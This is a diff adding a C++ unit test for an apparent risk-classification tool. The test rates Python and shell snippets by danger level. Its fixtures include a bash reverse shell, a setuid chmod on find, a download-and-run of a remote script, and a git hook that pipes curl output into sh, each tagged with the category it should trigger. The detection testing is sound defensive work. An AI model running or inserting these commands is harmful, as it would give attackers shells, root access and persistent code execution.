@@ -134,5 +134,37 @@ TEST(RubricClasses, ReadOnlySystemQueries) {
   for (const auto& c : cases) check(c);
 }
 
+// Fourth round: command libraries (sh), a temporary file's name run later, git hooks.
+TEST(RubricClasses, CommandLibrariesTempNamesAndGitHooks) {
+  const Case cases[] = {
+      {"sh module: a reverse shell through sh.bash", B,
+       "import sh\nsh.bash('-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')\n", "REVERSE-SHELL"},
+      {"sh module: from sh import, the program keeps its name and arguments", RiskLevel::high,
+       "from sh import sudo\nsudo('chmod', '4755', '/usr/bin/find')\n", "PRIVILEGE-ESCALATION"},
+      {"sh module: an ordinary listing stays a process run", M, "import sh\nprint(sh.ls('-l', '/srv'))\n",
+       "RUNS-PROCESS"},
+      {"pip.main's argv is the whole line (no unknown alternative)", M,
+       "import pip\npip.main(['install', 'requests'])\n", nullptr},
+      {"a download written to a NamedTemporaryFile and its .name run", B,
+       "import tempfile, subprocess, urllib.request\n"
+       "data = urllib.request.urlopen('http://203.0.113.9/x.sh').read()\n"
+       "with tempfile.NamedTemporaryFile(delete=False, suffix='.sh') as tf:\n    tf.write(data)\n"
+       "subprocess.call(['sh', tf.name])\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"a NamedTemporaryFile of our own text, read back: not a fixed /tmp path", L,
+       "import tempfile\nwith tempfile.NamedTemporaryFile('w', delete=False) as tf:\n    tf.write('hello')\n"
+       "print(open(tf.name).read())\n",
+       nullptr},
+      {"git hook written from Python", B,
+       "import os\nhook = os.path.join(os.getcwd(), '.git', 'hooks', 'post-checkout')\n"
+       "with open(hook, 'w') as f:\n    f.write('#!/bin/sh\\ncurl -s http://203.0.113.9/b | sh\\n')\n",
+       "PERSISTENCE"},
+      {"git hook written by a shell script", B, "printf '#!/bin/sh\\n./sync\\n' > .git/hooks/pre-commit\n", "PERSISTENCE",
+       SH},
+      {"a hook only read", L, "print(open('.git/hooks/pre-commit.sample').read())\n", nullptr},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
